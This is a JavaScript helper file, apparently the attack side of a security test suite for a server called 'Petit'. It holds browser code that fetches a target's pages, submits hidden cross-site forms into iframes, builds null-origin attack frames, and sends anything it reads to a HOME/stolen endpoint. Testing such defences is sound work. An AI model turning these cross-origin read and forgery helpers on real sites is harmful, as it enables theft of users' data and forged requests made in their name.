// What each attack may use. Whatever a page could read goes to HOME/stolen; a refusal is no loot.
const nap = (ms) => new Promise((go) => setTimeout(go, ms));
const within = (promise, ms = 2000) => Promise.race([promise, nap(ms)]);
const all = (list, attack) => Promise.all(list.map(attack));

// HOME, TARGET: origins. CHANGING: [{method, path}]. READING: [path]. VICTIM: the path that triggers a job.
const url = (path) => TARGET + path;

function steal(loot) {
  if (!loot) return Promise.resolve();
  return fetch(`${HOME}/stolen`, { method: "POST", mode: "no-cors", body: String(loot) });
}

async function read(promise) {
  try {
    const answer = await within(promise);
    if (answer && answer.ok) await steal(`${answer.url}: ${await answer.text()}`);
  } catch {
    // the browser, or Petit, refused
  }
}

// Put an element into the page; say whether it loaded, and what else it tells.
async function embed(tag, attributes, also = () => "") {
  const element = document.createElement(tag);
  const over = new Promise((go) => {
    element.onload = element.oncanplay = element.onopen = () => go("load");
    element.onerror = () => go("error");
  });
  Object.assign(element, attributes);
  document.body.append(element);
  return ((await within(over, 700)) ?? "nothing") + also(element);
}

let forms = 0;
async function submit(action, enctype, fields, method = "post") {
  const name = `form${forms++}`;
  const frame = Object.assign(document.createElement("iframe"), { name });
  const form = Object.assign(document.createElement("form"), { action, enctype, method, target: name });
  for (const [key, value] of Object.entries(fields)) {
    const field = Object.assign(document.createElement("textarea"), { name: key, value });
    form.append(field);
  }
  document.body.append(frame, form);
  await nap(0); // the empty frame loads first
  const over = new Promise((go) => (frame.onload = go));
  form.submit();
  await within(over, 1000);
  try {
    await steal(frame.contentDocument?.body?.innerText);
  } catch {
    // it is another origin's
  }
}

// The text of a page that attacks from within a frame of no origin.
const page = (script) => {
  const facts = JSON.stringify({ HOME, TARGET, CHANGING, READING, VICTIM });
  return `<body><script>Object.assign(globalThis, ${facts})<\/script>
    <script src="${HOME}/lib.js"><\/script><script>(async () => { ${script} })()<\/script>`;
};
